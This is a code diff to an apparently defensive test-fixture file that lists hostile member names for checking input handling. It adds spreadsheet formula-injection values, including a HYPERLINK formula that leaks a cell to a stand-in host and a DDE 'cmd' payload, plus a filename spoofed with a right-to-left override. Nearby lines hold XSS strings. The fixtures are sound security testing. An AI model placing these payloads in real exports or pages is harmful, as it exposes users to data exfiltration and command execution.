@@ -42,7 +42,20 @@ export const HOSTILE_MEMBERS: readonly HostileMember[] = [
     memberId: '100000000000007',
     name: '<!-- --><svg onload=alert(1)><iframe srcdoc="<script>alert(1)</script>">',
   },
+  // Spreadsheet formulas: a CSV cell starting with = + - @ must not run (storage/export.ts `FORMULA_START`).
+  { memberId: '100000000000008', name: '=HYPERLINK("https://evil.invalid/?"&A1,"Click")' },
+  { memberId: '100000000000009', name: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  { memberId: '100000000000010', name: '+1+1 Plus' },
+  { memberId: '100000000000011', name: '-1+1 Minus' },
 ];
+/** Names a spreadsheet would run as a formula. */
+export const FORMULA_NAME = /^[=+\-@]/;
+
+/** Every kind of hostile text in one string (no `{`: templates read braces as placeholders), `length` long. */
+export function hostileText(length: number): string {
+  const head = `${payload(PWNED)} \u202eevil.exe\u202c Da\u200bv\u200did 🐕‍🦺 🏳️‍🌈 "quotes" & 'too' `;
+  return `${head}${'Ω'.repeat(Math.max(0, length - head.length - 3))}end`;
+}
 export const HOSTILE_BADGE = `<img src=x onerror="${PWNED}">Top`;
 export const HOSTILE_SECTION = `<script>${PWNED}</script>Members`;
 /** Post-like free text on the page (bio lines); never stored, but must not break reading either. */
